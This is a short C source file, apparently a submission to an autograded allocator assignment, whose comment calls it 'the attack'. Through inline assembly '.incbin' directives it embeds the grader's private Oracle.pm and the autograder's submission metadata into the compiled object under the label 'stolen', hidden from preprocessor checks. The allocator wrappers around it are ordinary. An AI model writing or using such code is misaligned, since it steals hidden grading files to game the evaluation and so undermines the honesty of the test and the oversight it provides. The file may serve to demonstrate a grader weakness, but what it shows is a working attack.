// The attack: the assembler puts a file of the grader into the object, as data. No preprocessor sees it.

#include "../heap.h"
#include "xmalloc.h"

__asm__(
    ".section .rodata\n"
    "stolen:\n"
    ".incbin \"/autograder/source/grader/kit/Oracle.pm\"\n"
    ".incbin \"/autograder/submission_metadata.json\"\n"
    ".text\n");

void* xmalloc(size_t bytes) { return heap_take(bytes); }
void xfree(void* block) { heap_give(block); }
void* xrealloc(void* block, size_t bytes) { return heap_resize(block, bytes); }
